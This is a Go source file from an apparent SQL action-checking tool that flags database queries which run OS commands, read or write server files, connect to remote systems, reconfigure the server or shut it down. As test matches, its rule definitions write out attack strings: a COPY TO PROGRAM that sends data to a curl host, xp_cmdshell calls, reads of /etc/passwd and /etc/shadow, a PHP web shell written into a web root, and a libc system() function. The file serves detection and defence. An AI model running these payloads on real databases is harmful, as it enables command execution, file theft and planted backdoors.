package sql

import (
	"fmt"
	"strings"

	"github.com/actionguard/actionguard/rule"
)

// Rules about the database reaching outside itself: running programs,
// reading and writing the server's files, connecting to other systems,
// reconfiguring or stopping the server.

var (
	// A shell command the shell analyzer never sees, run as the database
	// server's user: over 100 points, DANGEROUS. Targets hold the command
	// when it is written out, so that a caller can analyse it as shell.
	ruleExecProgram = &rule.Rule{
		ID: "sql.exec.program", Category: rule.Execution, AlwaysReview: true,
		Points:      rule.PrivilegedKeyword + rule.ExternalTarget + rule.Irreversible + outsideDatabase,
		Summary:     "Runs an operating-system command through the database (COPY … PROGRAM, xp_cmdshell, psql \\!).",
		Alternative: "run the command in the shell, where it is checked on its own, and load its output with COPY … FROM STDIN",
		Match: []string{"COPY (SELECT 1) TO PROGRAM 'curl -d @- https://x.example'", "COPY t FROM PROGRAM 'id'",
			"EXEC xp_cmdshell 'whoami'", "EXEC master..xp_cmdshell 'dir'", "SELECT sys_exec('id')", "\\! rm -rf /tmp/x",
			"SELECT 1 \\g |sh", "\\copy t to program 'gzip > t.gz'"},
		NoMatch: []string{"SELECT 'xp_cmdshell'", "COPY t TO STDOUT", "-- EXEC xp_cmdshell 'x'", "\\copy t to 't.csv'"},
	}
	// Code in an untrusted language runs with the server's rights whenever
	// the function is called (80, PRIVILEGED).
	ruleExecUntrusted = &rule.Rule{
		ID: "sql.exec.untrusted-language", Category: rule.Execution, AlwaysReview: true,
		Points:      rule.PrivilegedKeyword + rule.ExternalTarget + outsideDatabase,
		Summary:     "Creates a function in an untrusted language (plpython3u, plperlu, C): it can do anything the server's account can.",
		Alternative: "write the function in SQL or PL/pgSQL",
		Match: []string{"CREATE FUNCTION f() RETURNS text AS $$ import os; return os.popen('id').read() $$ LANGUAGE plpython3u",
			"CREATE OR REPLACE FUNCTION sys(cstring) RETURNS int AS '/lib/libc.so.6', 'system' LANGUAGE C STRICT"},
		NoMatch: []string{"CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql",
			"CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 1; END $$"},
	}
	// The server's files reach whoever runs the query (80, PRIVILEGED).
	ruleFileRead = &rule.Rule{
		ID: "sql.file.read", Category: rule.Exfiltration, AlwaysReview: true,
		Points:      rule.PrivilegedKeyword + rule.ExternalTarget + outsideDatabase,
		Summary:     "Reads a file of the database server (pg_read_file, LOAD_FILE, COPY … FROM '/path').",
		Alternative: "read the file on the client (\\copy … FROM 'file', LOAD DATA LOCAL INFILE)",
		Match: []string{"SELECT pg_read_file('/etc/passwd')", "SELECT LOAD_FILE('/etc/passwd')", "COPY t FROM '/etc/passwd'",
			"LOAD DATA INFILE '/etc/passwd' INTO TABLE t", "SELECT lo_import('/etc/shadow')", "BULK INSERT t FROM 'C:\\data\\x.csv'",
			"SELECT * FROM OPENROWSET(BULK 'C:\\x.txt', SINGLE_CLOB) AS x"},
		NoMatch: []string{"COPY t FROM STDIN", "LOAD DATA LOCAL INFILE 'x.csv' INTO TABLE t", "SELECT 'pg_read_file'"},
	}
	// A file written by the server, where the query chooses: a web shell
	// in the web root is the classic (80, PRIVILEGED).
	ruleFileWrite = &rule.Rule{
		ID: "sql.file.write", Category: rule.Exfiltration, AlwaysReview: true,
		Points:      rule.PrivilegedKeyword + rule.ExternalTarget + outsideDatabase,
		Summary:     "Writes a file on the database server (SELECT … INTO OUTFILE, COPY … TO '/path', lo_export).",
		Alternative: "export on the client instead: COPY … TO STDOUT or \\copy, and write the file yourself",
		Match: []string{"SELECT * FROM users INTO OUTFILE '/tmp/users.txt'", "SELECT '<?php system($_GET[1]); ?>' INTO DUMPFILE '/var/www/shell.php'",
			"COPY users TO '/tmp/users.csv'", "SELECT lo_export(1234, '/tmp/x')"},
		NoMatch: []string{"COPY users TO STDOUT", "SELECT * INTO backup_users FROM users"},
	}
	// The database talks to another system: an external target (50, CAUTIOUS).
	ruleNetRemote = &rule.Rule{
		ID: "sql.net.remote", Category: rule.Network,
		Points:      rule.PrivilegedKeyword + rule.ExternalTarget,
		Summary:     "Makes the database connect to another system (dblink, foreign servers, UTL_HTTP, OPENROWSET, sp_send_dbmail).",
		Alternative: "fetch or send the data from the client, where the destination is checked",
		Match: []string{"SELECT * FROM dblink('host=10.0.0.1 dbname=x', 'SELECT 1') AS t(a int)",
			"CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'x')", "SELECT UTL_HTTP.REQUEST('http://x.example/') FROM dual",
			"SELECT * FROM OPENROWSET('SQLNCLI', 'Server=x;Trusted_Connection=yes;', 'SELECT 1')",
			"EXEC msdb.dbo.sp_send_dbmail @recipients='x@example.com', @query='SELECT * FROM users'", "COPY INTO 's3://bucket/out/' FROM users"},
		NoMatch: []string{"SELECT 'dblink'", "COPY INTO users FROM @stage"},
	}
	// Every database and client on the server is affected (50, CAUTIOUS).
	ruleConfigServer = &rule.Rule{
		ID: "sql.config.server", Category: rule.Configuration,
		Points:      rule.PrivilegedKeyword + rule.DataModification,
		Summary:     "Changes the configuration of the whole database server.",
		Alternative: "change the setting for your session only (SET …) or in the server's configuration file under review",
		Match: []string{"ALTER SYSTEM SET max_connections = 10", "SET GLOBAL general_log = 'OFF'", "SET PERSIST max_connections = 10",
			"EXEC sp_configure 'xp_cmdshell', 1", "SELECT pg_reload_conf()", "SET @@GLOBAL.read_only = 0"},
		NoMatch: []string{"SET search_path TO app", "SET SESSION sql_mode = ''", "SHOW max_connections"},
	}
	// Every client loses its connection and its open transactions (75, PRIVILEGED).
	ruleAdminShutdown = &rule.Rule{
		ID: "sql.admin.shutdown", Category: rule.Infrastructure, AlwaysReview: true,
		Points:  rule.PrivilegedKeyword + rule.ExternalTarget + rule.Irreversible,
		Summary: "Shuts the database server down for every client.",
		Match:   []string{"SHUTDOWN", "SHUTDOWN WITH NOWAIT"},
		NoMatch: []string{"SELECT 'SHUTDOWN'"},
	}
)

// hostFunctions are functions and procedures that reach outside the
// database, by lower-case name; a nil rule marks a function that only
// makes the statement not read-only (nextval…). Procedures whose meaning
// depends on their arguments are handled in hostCall.
var hostFunctions = map[string]*rule.Rule{
	"xp_cmdshell": ruleExecProgram, "sys_exec": ruleExecProgram, "sys_eval": ruleExecProgram,
	"sp_oacreate": ruleExecProgram, "sp_oamethod": ruleExecProgram, "sp_execute_external_script": ruleExecProgram,

	"pg_read_file": ruleFileRead, "pg_read_binary_file": ruleFileRead, "pg_ls_dir": ruleFileRead, "pg_stat_file": ruleFileRead,
	"lo_import": ruleFileRead, "load_file": ruleFileRead, "xp_dirtree": ruleFileRead, "xp_fileexist": ruleFileRead, "xp_subdirs": ruleFileRead,

	"lo_export": ruleFileWrite, "pg_file_write": ruleFileWrite, "pg_file_rename": ruleFileWrite, "pg_file_unlink": ruleFileWrite,
	"utl_file": ruleFileWrite,

	"dblink": ruleNetRemote, "dblink_exec": ruleNetRemote, "dblink_connect": ruleNetRemote, "dblink_connect_u": ruleNetRemote,
	"dblink_send_query": ruleNetRemote, "opendatasource": ruleNetRemote, "openquery": ruleNetRemote, "utl_http": ruleNetRemote,
	"utl_tcp": ruleNetRemote, "utl_smtp": ruleNetRemote, "utl_inaddr": ruleNetRemote, "httpuritype": ruleNetRemote,
	"http_get": ruleNetRemote, "http_post": ruleNetRemote, "http_request": ruleNetRemote, "sp_addlinkedserver": ruleNetRemote,
	"sp_send_dbmail": ruleNetRemote, "openrowset": ruleNetRemote,

	"sp_configure": ruleConfigServer, "pg_reload_conf": ruleConfigServer,

	"sp_addsrvrolemember": ruleRoleSuperuser, "sp_addrolemember": ruleGrantPrivileges,
	"sp_addlogin": ruleRoleCreate, "sp_adduser": ruleRoleCreate, "sp_grantlogin": ruleRoleCreate,
	"sp_droplogin": ruleRoleDrop, "sp_dropuser": ruleRoleDrop, "sp_revokelogin": ruleRoleDrop, "sp_password": ruleRolePassword,

	"pg_terminate_backend": ruleAdminSessions, "pg_cancel_backend": ruleAdminSessions,

	"nextval": nil, "setval": nil, "lo_unlink": nil, "lo_create": nil,
	"set_config": nil, "pg_advisory_lock": nil, "pg_switch_wal": nil,
}

// maxHostName is the longest word looked up in hostFunctions.
const maxHostName = 64

// hostName returns the component of the word w (db.schema.name) that names
// a host function, lower-cased, or "".
func hostName(w string) (string, *rule.Rule, bool) {
	if len(w) < 5 || len(w) > maxHostName {
		return "", nil, false
	}
	var buf [maxHostName]byte
	for i := 0; i < len(w); i++ {
		c := w[i]
		if c >= 'A' && c <= 'Z' {
			c += 'a' - 'A'
		}
		buf[i] = c
	}
	b := buf[:len(w)]
	for len(b) > 0 {
		part := b
		if i := indexByte(b, '.'); i >= 0 {
			part, b = b[:i], b[i+1:]
		} else {
			b = nil
		}
		if r, ok := hostFunctions[string(part)]; ok {
			return string(part), r, true
		}
	}
	return "", nil, false
}

func indexByte(b []byte, c byte) int {
	for i, x := range b {
		if x == c {
			return i
		}
	}
	return -1
}

// scanStatement looks through a statement, at any depth, for what reaches
// outside the database: host functions and SELECT … INTO OUTFILE. It
// reports whether the statement writes something (INTO, nextval()…).
func (a *analysis) scanStatement(first, end int) (writes bool) {
	var ev string
	evOnce := func() string {
		if ev == "" {
			ev = evidence(a.spanText(first, end))
		}
		return ev
	}
	for i := first; i < end; i++ {
		t := a.toks[i]
		switch {
		case t.kw() == "INTO":
			writes = true
			switch k := a.kwAt(i + 1); k {
			case "OUTFILE", "DUMPFILE":
				path, _, _ := a.stringAt(i + 2)
				a.add(ruleFileWrite.Find(evOnce(), fmt.Sprintf("Writes the query's result to the server file %s (INTO %s).", quoted(path), k), targets(path)...))
			}
		case t.kind == kWord && t.kw() == "":
			if a.hostCall(i, end, evOnce) {
				writes = true
			}
		}
	}
	return writes
}

// hostCall reports the host function or procedure at i, if it is one.
func (a *analysis) hostCall(i, end int, ev func() string) bool {
	name, r, ok := hostName(a.text(i))
	if !ok {
		return false
	}
	if r == nil {
		return true
	}
	args := a.stringArgs(i+1, end)
	arg := ""
	if len(args) > 0 {
		arg = args[0]
	}
	switch name {
	case "openrowset":
		if a.kindAt(i+1) == kOpen && a.kwAt(i+2) == "BULK" {
			path, _, _ := a.stringAt(i + 3)
			a.add(ruleFileRead.Find(ev(), fmt.Sprintf("Reads the server file %s into the database (OPENROWSET BULK).", quoted(path)), targets(path)...))
			return true
		}
	case "sp_addsrvrolemember", "sp_addrolemember":
		role, member := "", ""
		for _, s := range args {
			switch l := strings.ToLower(s); {
			case superRoles.has(l) || broadRoles.has(l):
				role = s
			default:
				member = s
			}
		}
		switch l := strings.ToLower(role); {
		case superRoles.has(l):
			a.add(ruleRoleSuperuser.Find(ev(), fmt.Sprintf("Makes %s a member of %s: it can do anything on the server.", orSomeone(member), role), targets(member)...))
		case broadRoles.has(l):
			a.add(ruleGrantAll.Find(ev(), fmt.Sprintf("Makes %s a member of %s: it owns the whole database.", orSomeone(member), role), targets(member)...))
		default:
			a.add(ruleGrantPrivileges.Find(ev(), fmt.Sprintf("Adds an account to a role (%s).", name), args...))
		}
		return true
	}
	var msg string
	switch r {
	case ruleExecProgram:
		msg = fmt.Sprintf("Runs an operating-system command on the database server (%s)%s.", name, colonQuoted(arg))
	case ruleFileRead:
		msg = fmt.Sprintf("Reads the server's file system (%s)%s; the query can then return what it read.", name, colonQuoted(arg))
	case ruleFileWrite:
		if name == "lo_export" && len(args) > 0 {
			arg = args[len(args)-1] // lo_export(oid, '/path')
		}
		msg = fmt.Sprintf("Writes a file on the database server (%s)%s.", name, colonQuoted(arg))
	case ruleNetRemote:
		msg = fmt.Sprintf("Makes the database connect to another system (%s).", name)
	case ruleConfigServer:
		msg = fmt.Sprintf("Changes the server's configuration (%s) for every database and client on it.", name)
	case ruleRolePassword:
		msg = fmt.Sprintf("Changes the password of a database login (%s).", name)
	case ruleRoleCreate:
		msg = fmt.Sprintf("Creates a database login or user (%s)%s.", name, colonQuoted(arg))
	case ruleRoleDrop:
		msg = fmt.Sprintf("Drops a database login or user (%s)%s.", name, colonQuoted(arg))
	case ruleAdminSessions:
		msg = fmt.Sprintf("Ends other clients' database sessions or queries (%s): their open work is lost.", name)
		arg = ""
	}
	if r == ruleRolePassword || r == ruleNetRemote {
		arg = "" // a password or a query is not a target
	}
	a.add(r.Find(ev(), msg, targets(arg)...))
	return true
}

// stringArgs returns the string literals among the first arguments of the
// call or procedure whose arguments start at i: f('a', 'b'), EXEC p 'a',
// @x = 'b'.
func (a *analysis) stringArgs(i, end int) []string {
	var out []string
	if a.kindAt(i) == kOpen {
		i++
	}
	for n := 0; i < end && n < 6 && len(out) < 4; n++ {
		if a.kindAt(i) == kParam && a.comparisonOp(i+1) == "=" {
			i += 2
		}
		if s, next, ok := a.stringAt(i); ok {
			out = append(out, s)
			i = next
		} else if a.kindAt(i) == kNumber || a.kwAt(i) == "NULL" || a.kindAt(i) == kParam {
			i++
		} else {
			break
		}
		if a.kindAt(i) != kPunct || a.text(i) != "," {
			break
		}
		i++
	}
	return out
}

func quoted(s string) string {
	if s == "" {
		return "(not written out)"
	}
	return fmt.Sprintf("%q", short(s, 80))
}

func colonQuoted(s string) string {
	if s == "" {
		return ""
	}
	return ": " + quoted(s)
}

func orUnknownName(s string) string {
	if s == "" {
		return "(unnamed)"
	}
	return s
}

func orSomeone(s string) string {
	if s == "" {
		return "an account"
	}
	return s
}

// untrustedLanguages run code with the server's rights (lower-case).
var untrustedLanguages = set(`plpythonu plpython2u plpython3u plperlu pltclu plsh plr c internal javau`)

// untrustedLanguage reports a function written in an untrusted language.
func (a *analysis) untrustedLanguage(c *clause, ev string) bool {
	l := a.find(c.first, c.end, "LANGUAGE")
	if l < 0 {
		return false
	}
	lang := a.text(l + 1)
	if s, ok := a.stringValue(l + 1); ok {
		lang = s
	}
	lang = strings.ToLower(unquoteName(lang))
	if !untrustedLanguages.has(lang) {
		return false
	}
	if lang == "c" {
		lang = "C"
	}
	i := c.first + 1
	for i < c.end && a.kwAt(i) != "FUNCTION" && a.kwAt(i) != "PROCEDURE" && i < c.first+6 {
		i++
	}
	name, _ := a.name(i+1, c.end)
	a.add(ruleExecUntrusted.Find(ev,
		fmt.Sprintf("Creates function %s in %s, an untrusted language: when called it can do anything the database server's account can.", orUnknownName(name), lang), targets(name)...))
	return true
}

// checkCopy reports COPY: to and from programs, server files, the client,
// and (Snowflake's COPY INTO) external storage.
func (a *analysis) checkCopy(c *clause) {
	ev := evidence(a.clauseText(c))
	i := c.first + 1
	if a.kwAt(i) == "INTO" {
		if k := a.kindAt(i + 1); k == kString || k == kParam {
			dest := a.text(i + 1)
			if s, ok := a.stringValue(i + 1); ok {
				dest = s
			}
			a.add(ruleNetRemote.Find(ev, fmt.Sprintf("Copies data out of the database to %s.", dest), dest))
			return
		}
		table, _ := a.name(i+1, c.end)
		a.add(ruleWriteImport.Find(ev, fmt.Sprintf("Loads rows into %s from files in external storage.", tableWords(table)), targets(table)...))
		return
	}
	table, _ := a.name(i, c.end)
	depth := 0
	for j, end := i, a.scanEnd(i, c.end); j < end; j++ {
		switch a.toks[j].kind {
		case kOpen:
			depth++
			continue
		case kClose:
			depth--
			continue
		}
		dir := a.toks[j].kw()
		if depth != 0 || dir != "TO" && dir != "FROM" {
			continue
		}
		k := j + 1
		switch a.kwAt(k) {
		case "PROGRAM":
			cmd, _, _ := a.stringAt(k + 1)
			a.add(ruleExecProgram.Find(ev, fmt.Sprintf("Runs the shell command %s on the database server (COPY … %s PROGRAM).", quoted(cmd), dir), targets(cmd)...))
		case "STDIN":
			a.add(ruleWriteImport.Find(ev, fmt.Sprintf("Loads rows the client sends into %s.", tableWords(table)), targets(table)...))
		case "STDOUT":
		default:
			path, _, ok := a.stringAt(k)
			switch {
			case !ok:
			case dir == "FROM" && isURL(path):
				a.add(ruleWriteImport.Find(ev, fmt.Sprintf("Loads rows into %s from %s.", tableWords(table), path), targets(table)...))
			case dir == "FROM":
				a.add(ruleFileRead.Find(ev, fmt.Sprintf("Reads the server file %s into %s.", quoted(path), tableWords(table)), path))
			case isURL(path):
				a.add(ruleNetRemote.Find(ev, fmt.Sprintf("Copies data out of the database to %s.", path), path))
			default:
				a.add(ruleFileWrite.Find(ev, fmt.Sprintf("Writes %s to the server file %s.", copySource(table), quoted(path)), path))
			}
		}
		return
	}
}

func copySource(table string) string {
	if table == "" {
		return "a query's result"
	}
	return "table " + table
}

func isURL(s string) bool {
	i := strings.Index(s, "://")
	return i > 0 && i < 12
}

// checkLoad reports MySQL's LOAD DATA / LOAD XML.
func (a *analysis) checkLoad(c *clause) {
	ev := evidence(a.clauseText(c))
	path := ""
	if inf := a.find(c.first, c.end, "INFILE"); inf >= 0 {
		path, _, _ = a.stringAt(inf + 1)
	}
	table := ""
	if t := a.find(c.first, c.end, "TABLE"); t >= 0 {
		table, _ = a.name(t+1, c.end)
	}
	if a.has(c, "LOCAL") {
		a.add(ruleWriteImport.Find(ev, fmt.Sprintf("Loads rows into %s from the client's file %s.", tableWords(table), quoted(path)), targets(table)...))
		return
	}
	a.add(ruleFileRead.Find(ev, fmt.Sprintf("Reads the server file %s into %s.", quoted(path), tableWords(table)), targets(path)...))
}

// checkBulk reports T-SQL's BULK INSERT, which reads a file of the server.
func (a *analysis) checkBulk(c *clause) {
	if a.kwAt(c.first+1) != "INSERT" {
		return
	}
	table, _ := a.name(c.first+2, c.end)
	path := ""
	if from := a.find(c.first, c.end, "FROM"); from >= 0 {
		path, _, _ = a.stringAt(from + 1)
	}
	a.add(ruleFileRead.Find(evidence(a.clauseText(c)), fmt.Sprintf("Reads the server file %s into %s.", quoted(path), tableWords(table)), targets(path)...))
}

// checkDynamic analyses the SQL text given to EXECUTE IMMEDIATE, EXEC(…),
// sp_executesql and PREPARE … FROM.
func (a *analysis) checkDynamic(c *clause) {
	i := c.first + 1
	if c.verb == "PREPARE" {
		f := a.find(i, c.end, "FROM")
		if f < 0 {
			return
		}
		i = f + 1
	}
	if a.kwAt(i) == "IMMEDIATE" {
		i++
	}
	if strings.EqualFold(a.text(i), "format") && a.kindAt(i+1) == kOpen {
		i += 2 // PL/pgSQL: EXECUTE format('DROP TABLE %I', t)
	}
	if a.kindAt(i) == kOpen {
		i++
	}
	if n, _, ok := hostName(a.text(i)); ok || strings.HasSuffix(strings.ToLower(a.text(i)), "sp_executesql") {
		if n != "" {
			return // a host procedure: scanStatement reports it
		}
		i++
		if a.kindAt(i) == kParam && a.comparisonOp(i+1) == "=" {
			i += 2
		}
	}
	if s, _, ok := a.stringAt(i); ok {
		a.nested(s)
	}
}

func (a *analysis) checkShutdown(c *clause) {
	a.add(ruleAdminShutdown.Find(evidence(a.clauseText(c)), "Shuts the database server down: every client loses its connection and open transactions."))
}

// checkMeta reports a client backslash command.
func (a *analysis) checkMeta(i int) {
	s := a.text(i)
	verb, n := metaVerb(s)
	arg := strings.TrimSpace(s[n:])
	ev := evidence(s)
	switch verb {
	case `\!`:
		msg := fmt.Sprintf("Runs the shell command %s from the database client (\\!).", quoted(arg))
		if arg == "" {
			msg = "Opens a shell from the database client (\\!)."
		}
		a.add(ruleExecProgram.Find(ev, msg, targets(arg)...))
	case `\O`, `\OUT`, `\G`, `\GX`, `\W`, `\WRITE`:
		if strings.HasPrefix(arg, "|") {
			cmd := strings.TrimSpace(arg[1:])
			a.add(ruleExecProgram.Find(ev, fmt.Sprintf("Pipes query output into the shell command %s (%s |).", quoted(cmd), strings.ToLower(verb)), targets(cmd)...))
		}
	case `\COPY`:
		lower := lowerASCII(arg) // same length as arg: indexes carry over
		table := ""
		if f := strings.Fields(arg); len(f) > 0 {
			table = f[0]
		}
		switch {
		case strings.Contains(lower, " program "):
			cmd := arg[strings.Index(lower, " program ")+len(" program "):]
			cmd = strings.Trim(strings.TrimSpace(cmd), "'")
			a.add(ruleExecProgram.Find(ev, fmt.Sprintf("Runs the shell command %s on the client (\\copy … program).", quoted(cmd)), targets(cmd)...))
		case strings.Contains(lower, " from "):
			a.add(ruleWriteImport.Find(ev, fmt.Sprintf("Loads rows into %s from a file on the client.", tableWords(table)), targets(table)...))
		}
	case `\PASSWORD`:
		a.add(ruleRolePassword.Find(ev, fmt.Sprintf("Changes the password of %s.", orSomeone(arg)), targets(arg)...))
	}
}
